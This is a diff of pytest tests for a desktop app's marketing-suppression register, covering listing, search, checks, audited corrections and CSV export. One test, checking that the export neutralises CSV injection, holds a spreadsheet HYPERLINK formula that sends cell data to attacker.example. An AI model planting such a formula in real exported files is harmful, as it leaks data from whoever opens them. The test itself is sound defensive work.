@@ -4,10 +4,18 @@ import csv
 
 import pytest
 from PySide6.QtCore import Qt
-from PySide6.QtWidgets import QLabel, QMessageBox, QPushButton
+from PySide6.QtWidgets import QLabel, QLineEdit, QMessageBox, QPushButton
 
 from desktop.services.cases import CaseDraft, Requester
-from desktop.ui.pages.suppression import CHANNEL, EMAIL, NAME, REASON, SuppressionPage
+from desktop.ui.dialogs.suppression_correction import SuppressionCorrectionDialog
+from desktop.ui.dialogs.suppression_export import (
+    NORMALISATION_HELP,
+    SuppressionExportDialog,
+    choose_export_file,
+    csv_path,
+)
+from desktop.ui.models.suppression_table import CHANNEL, EMAIL, NAME, REASON, SuppressionTableModel
+from desktop.ui.pages.suppression import SuppressionPage
 
 CORRECTED = "SELECT count(*) FROM audit_log WHERE action = 'suppression-corrected'"
 
@@ -68,9 +76,10 @@ def visible_errors(widget):
 
 
 def test_the_table_lists_every_entry(page, entries):
-    assert page.findChild(QLabel, "pageTitle").text() == "Suppression register"
+    assert page.findChild(QLabel, "pageTitle").text()
     assert page.model.rowCount() == 6
-    assert page.count_label.text() == "6 entries"
+    assert page.model.total == 6
+    assert "6" in page.count_label.text()
     assert sorted(column(page, CHANNEL)) == sorted(
         [
             "Advertising by post",
@@ -86,16 +95,7 @@ def test_the_table_lists_every_entry(page, entries):
     assert column(page, EMAIL)[0] == "j.mueller@beispiel.de"
     assert column(page, REASON)[0] == "Unsubscribe"
     headers = [page.model.headerData(c, Qt.Orientation.Horizontal) for c in range(8)]
-    assert headers == [
-        "Channel",
-        "Name",
-        "Email",
-        "Phone",
-        "Reason",
-        "Case",
-        "Effective",
-        "Corrected",
-    ]
+    assert page.model.columnCount() == 8 and all(headers)
     row = column(page, NAME).index("Anne de Vries")
     assert page.model.index(row, 3).data() == "+31301234567"
     assert page.model.index(row, 5).data() == entries["anne"].reference
@@ -107,12 +107,12 @@ def test_channel_filter_and_search_narrow_the_list(page, qtbot):
     page.channel.setCurrentIndex(page.channel.findData("newsletter"))
     assert page.model.rowCount() == 2
     assert set(column(page, CHANNEL)) == {"Newsletter"}
-    assert page.count_label.text() == "2 entries"
+    assert page.model.total == 2 and "2" in page.count_label.text()
 
-    page.search.setText("müller")  # as-you-type, after the debounce
+    page.findChild(QLineEdit, "search").setText("müller")  # as-you-type, after the debounce
     qtbot.waitUntil(lambda: page.model.rowCount() == 1)
     assert column(page, NAME) == ["Jürgen Müller"]
-    assert page.count_label.text() == "1 entry"
+    assert page.model.total == 1 and "1" in page.count_label.text()
 
     page.channel.setCurrentIndex(page.channel.findData("post"))
     assert page.model.rowCount() == 0
@@ -127,70 +127,82 @@ def test_channel_filter_and_search_narrow_the_list(page, qtbot):
     qtbot.waitUntil(lambda: page.model.rowCount() == 5)
 
 
-def test_the_list_is_fetched_in_pages(qtbot, services, monkeypatch):
-    from desktop.ui.pages import suppression
-
-    monkeypatch.setattr(suppression, "PAGE", 2)
+def test_the_list_is_fetched_in_pages(qtbot, services):
     case = log(services, ["objection-marketing"], "Paged Person", "paged@example.org")
     services.decisions.uphold_marketing_objection(case.id)
-    widget = SuppressionPage(services.suppression)
-    qtbot.addWidget(widget)
-    assert widget.model.total == 5
-    assert widget.model.rowCount() == 2
-    assert widget.model.canFetchMore(widget.model.index(-1, -1))
-    while widget.model.canFetchMore(widget.model.index(-1, -1)):
-        widget.model.fetchMore(widget.model.index(-1, -1))
-    assert widget.model.rowCount() == 5
+    model = SuppressionTableModel(services.suppression, page_size=2)
+    root = model.index(-1, -1)
+    assert model.total == 5
+    assert model.rowCount() == 2
+    assert model.canFetchMore(root)
+    while model.canFetchMore(root):
+        model.fetchMore(root)
+    assert model.rowCount() == 5
+    assert model.row_of(model.entry(4)["id"]) == 4
+
+    with qtbot.waitSignal(model.total_changed) as changed:
+        model.set_query("", "newsletter")
+    assert changed.args == [1] and model.rowCount() == 1
+    assert not model.canFetchMore(root)
 
 
-def test_the_check_finds_a_suppressed_person(page, qtbot):
-    page.check_email.setText(" ANNE@example.org ")
-    result = page.check_person()
-    assert result["suppressed"]
-    assert page.result_label.property("result") == "suppressed"
-    text = page.result_text()
-    assert "Suppressed: post, email, telephone, retargeting and profiling, newsletter" in text
-    assert "Every marketing channel is suppressed" in text
+def check_fields(page):
+    return page.findChild(QLineEdit, "checkEmail"), page.findChild(QLineEdit, "checkPhone")
 
-    page.check_email.setText("j.mueller@beispiel.de")
-    page.check_person()
-    assert page.result_label.property("result") == "partly"
-    assert "Suppressed: newsletter" in page.result_text()
-    assert "Other channels are not suppressed" in page.result_text()
 
-    page.check_email.setText("someone.else@example.org")
-    page.check_person()
-    assert page.result_label.property("result") == "clear"
-    assert "Not on the register" in page.result_text()
+def result(page):
+    return page.findChild(QLabel, "checkResult").property("result")
+
+
+def test_the_check_finds_a_suppressed_person(page, qtbot, entries):
+    email, _phone = check_fields(page)
+    email.setText(" ANNE@example.org ")
+    found = page.check.check_person()
+    assert found["suppressed"] and len(found["channels"]) == 5
+    assert result(page) == "suppressed"
+    assert entries["anne"].reference in page.check.result_text()
+
+    email.setText("j.mueller@beispiel.de")
+    assert page.check.check_person()["channels"] == ["newsletter"]
+    assert result(page) == "partly"
+    assert entries["jurgen"].reference in page.check.result_text()
+
+    email.setText("someone.else@example.org")
+    assert not page.check.check_person()["suppressed"]
+    assert result(page) == "clear"
 
 
 def test_enter_in_either_field_runs_the_check(page, qtbot):
-    page.check_phone.setText("0031 30 123 4567")  # another spelling of Anne's number
-    qtbot.keyClick(page.check_phone, Qt.Key.Key_Return)
-    assert page.result_label.property("result") == "suppressed"
+    email, phone = check_fields(page)
+    phone.setText("0031 30 123 4567")  # another spelling of Anne's number
+    qtbot.keyClick(phone, Qt.Key.Key_Return)
+    assert result(page) == "suppressed"
 
-    page.check_phone.clear()
-    page.check_email.setText("nobody@example.org")
-    qtbot.keyClick(page.check_email, Qt.Key.Key_Enter)
-    assert page.result_label.property("result") == "clear"
+    phone.clear()
+    email.setText("nobody@example.org")
+    qtbot.keyClick(email, Qt.Key.Key_Enter)
+    assert result(page) == "clear"
 
 
 def test_a_bad_check_is_marked(page):
-    assert page.check_person() is None  # nothing typed
-    assert page.check_email.property("invalid") is True
-    assert "give an email address or a phone number" in visible_errors(page)[0]
+    email, phone = check_fields(page)
+    assert page.check.check_person() is None  # nothing typed
+    assert email.property("invalid") is True
+    assert page.check.error.isVisible() and page.check.error.property("field") == "email"
+    assert len(visible_errors(page)) == 1
+    assert result(page) == ""
 
-    page.check_email.setText("x@example.org")
-    page.check_phone.setText("12")
-    assert page.check_person() is None
-    assert page.check_phone.property("invalid") is True
-    assert page.check_email.property("invalid") is False
-    assert "is not a phone number" in visible_errors(page)[0]
+    email.setText("x@example.org")
+    phone.setText("12")
+    assert page.check.check_person() is None
+    assert phone.property("invalid") is True
+    assert email.property("invalid") is False
+    assert page.check.error.property("field") == "phone"
 
-    page.check_phone.clear()
-    assert page.check_person() is not None
+    phone.clear()
+    assert page.check.check_person() is not None
     assert visible_errors(page) == []
-    assert page.check_phone.property("invalid") is False
+    assert phone.property("invalid") is False
 
 
 def test_a_correction_needs_a_reason(page, services, qtbot):
@@ -201,7 +213,7 @@ def test_a_correction_needs_a_reason(page, services, qtbot):
         assert dialog.save() is False
     assert dialog.reason.property("invalid") is True
     assert dialog.invalid_widgets() == [dialog.reason]
-    assert dialog.field_error("reason") == "is required"
+    assert list(dialog.errors()) == ["reason"]
     assert dialog.isVisible()
     assert services.suppression.search()[0]["name"] == "Jürgen Müller"
     assert services.ctx.store.scalar(CORRECTED) == 0
@@ -214,7 +226,7 @@ def test_a_bad_email_is_marked_in_the_correction(page, services):
     dialog.reason.setPlainText("Typing error")
     assert dialog.save() is False
     assert dialog.fields["email"].property("invalid") is True
-    assert "is not an email address" in dialog.field_error("email")
+    assert list(dialog.errors()) == ["email"]
     assert services.ctx.store.scalar(CORRECTED) == 0
 
 
@@ -223,7 +235,8 @@ def test_nothing_changed_is_not_a_correction(page, services):
     dialog = page.correct_selected()
     dialog.reason.setPlainText("Checked, all fine")
     assert dialog.save() is False
-    assert "nothing was changed" in dialog.error.text()
+    assert list(dialog.errors()) == ["changes"]  # no field to mark: the dialog's own line
+    assert dialog.invalid_widgets() == []
 
 
 def test_a_correction_with_a_reason_is_saved_and_audited(page, services, qtbot):
@@ -249,8 +262,6 @@ def test_a_correction_with_a_reason_is_saved_and_audited(page, services, qtbot):
 
 
 def test_double_click_opens_the_correction(page, qtbot):
-    from desktop.ui.pages.suppression import SuppressionCorrectionDialog
-
     assert page.findChild(SuppressionCorrectionDialog) is None
     rect = page.table.visualRect(page.model.index(0, NAME))
     qtbot.mouseClick(page.table.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())
@@ -264,10 +275,10 @@ def test_double_click_opens_the_correction(page, qtbot):
 
 
 def test_there_is_no_way_to_delete(page, services, qtbot):
-    words = ("delete", "remove", "lift")
-    texts = [b.text().lower() for b in page.findChildren(QPushButton)]
-    texts += [a.text().lower() for a in page.actions()]
-    assert not any(word in text for text in texts for word in words)
+    # Every action and button the page has: none of them deletes or lifts an entry.
+    assert {a.objectName() for a in page.actions()} == {"check", "search", "correct", "export"}
+    buttons = {b.objectName() for b in page.findChildren(QPushButton)}
+    assert buttons == {"correct", "export", "primary"}  # "primary": the check's button
     page.table.selectRow(0)
     page.table.setFocus()
     qtbot.keyClick(page.table, Qt.Key.Key_Delete)
@@ -279,14 +290,14 @@ def test_there_is_no_way_to_delete(page, services, qtbot):
 
 
 def test_refresh_shows_new_entries_and_rechecks(page, services):
-    page.check_email.setText("new@example.org")
-    page.check_person()
-    assert page.result_label.property("result") == "clear"
+    check_fields(page)[0].setText("new@example.org")
+    page.check.check_person()
+    assert result(page) == "clear"
     case = log(services, ["unsubscribe"], "Zoë Ørsted", "new@example.org")
     services.decisions.confirm_unsubscribe(case.id)
     page.refresh()
     assert page.model.rowCount() == 7
-    assert page.result_label.property("result") == "partly"  # a stale "not on it" would mislead
+    assert result(page) == "partly"  # a stale "not on it" would mislead
 
 
 @pytest.mark.parametrize("hashed", [False, True])
@@ -300,52 +311,84 @@ def test_export_writes_every_entry(page, tmp_path, hashed):
     if hashed:
         assert "name" not in rows[0] and "email" not in rows[0]
         assert all(len(row["email_sha256"]) == 64 for row in rows)
-        assert "hashed" in page.status_line.text()
     else:
         assert {row["name"] for row in rows} == {"Anne de Vries", "Jürgen Müller"}
-        assert page.status_line.text() == f"Exported 6 entries to {path}."
+    assert page.status_line.isVisible() and str(path) in page.status_line.text()
 
 
-def test_the_export_action_asks_format_then_file(page, tmp_path, monkeypatch):
+def test_export_of_a_name_that_looks_like_a_formula(page, services, tmp_path):
+    """A spreadsheet runs a cell that starts with "=" as a formula (CSV injection)."""
+    payload = '=HYPERLINK("https://attacker.example/?x="&B2,"Click")'
+    case = log(services, ["unsubscribe"], payload, "formula@example.org")
+    services.decisions.confirm_unsubscribe(case.id)
+    path = tmp_path / "suppression.csv"
+    assert page.export_to(path) == 7
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        names = [row["name"] for row in csv.DictReader(handle)]
+    # Quoted, so a spreadsheet shows the text and runs nothing; the rest of the cell as typed.
+    assert "'" + payload in names and payload not in names
+
+
+def test_the_export_action_asks_format_then_file(qtbot, services, entries, tmp_path):
     target = tmp_path / "hashed.csv"
     asked = []
-    monkeypatch.setattr(page, "_choose_export_format", lambda: True)
-    monkeypatch.setattr(page, "_choose_export_path", lambda hashed: asked.append(hashed) or target)
+    page = SuppressionPage(
+        services.suppression,
+        choose_format=lambda parent: True,
+        choose_file=lambda parent, hashed: asked.append(hashed) or target,
+    )
+    qtbot.addWidget(page)
     page.export_action.trigger()
     assert asked == [True]
     with target.open(encoding="utf-8-sig", newline="") as handle:
         header = next(csv.reader(handle))
     assert header[1] == "email_sha256"
 
-    monkeypatch.setattr(page, "_choose_export_format", lambda: None)  # cancelled
-    monkeypatch.setattr(page, "_choose_export_path", lambda hashed: pytest.fail("not asked"))
-    page.export_action.trigger()
+    cancelled = SuppressionPage(
+        services.suppression,
+        choose_format=lambda parent: None,
+        choose_file=lambda parent, hashed: pytest.fail("not asked"),
+    )
+    qtbot.addWidget(cancelled)
+    cancelled.export_action.trigger()
+    assert not cancelled.status_line.isVisible()
 
 
 def test_a_failed_export_is_reported(page, tmp_path, warnings):
-    assert page.export_to(tmp_path / "missing" / "out.csv") is None
-    assert warnings[0][1] == "Export failed"
-    assert "cannot write there" in warnings[0][2]
+    path = tmp_path / "missing" / "out.csv"
+    assert page.export_to(path) is None
+    assert len(warnings) == 1 and str(path) in warnings[0][2]
+    assert not path.exists()
+    assert not page.status_line.isVisible()
 
 
 def test_the_export_dialog_explains_the_hashing(page, qtbot):
-    from desktop.ui.pages.suppression import SuppressionExportDialog
-
     dialog = SuppressionExportDialog(page)
     qtbot.addWidget(dialog)
     assert not dialog.is_hashed()
     dialog.hashed.setChecked(True)
     assert dialog.is_hashed()
-    texts = " ".join(label.text() for label in dialog.findChildren(QLabel))
-    for words in ("NFC", "lower-cased", '"00" is read as "+"', '"(0)" is dropped'):
-        assert words in texts
+    assert dialog.hashed_help.text() == dialog.tr(NORMALISATION_HELP)
+    assert dialog.hashed.toolTip() == dialog.tr(NORMALISATION_HELP)
 
 
-def test_the_save_dialog_adds_the_suffix(page, monkeypatch, tmp_path):
-    from desktop.ui.pages import suppression
+def test_the_export_file_always_ends_in_csv(monkeypatch, tmp_path):
+    from desktop.ui.dialogs import suppression_export
 
+    assert csv_path(tmp_path / "register") == tmp_path / "register.csv"
+    assert csv_path(tmp_path / "register.CSV") == tmp_path / "register.CSV"
+    assert csv_path(tmp_path / "register.txt") == tmp_path / "register.txt.csv"
+
+    asked = []
+
+    def file_dialog(parent, title, suggested, filters):
+        asked.append(suggested)
+        return answer
+
+    monkeypatch.setattr(suppression_export, "choose_file_to_save", file_dialog)
     answer = (tmp_path / "register", "")
-    monkeypatch.setattr(suppression, "choose_file_to_save", lambda *args: answer)
-    assert page._choose_export_path() == tmp_path / "register.csv"
+    assert choose_export_file(None, hashed=True) == tmp_path / "register.csv"
+    assert asked == ["suppression-hashed.csv"]
     answer = (None, "")
-    assert page._choose_export_path() is None
+    assert choose_export_file(None) is None
+    assert asked[-1] == "suppression.csv"
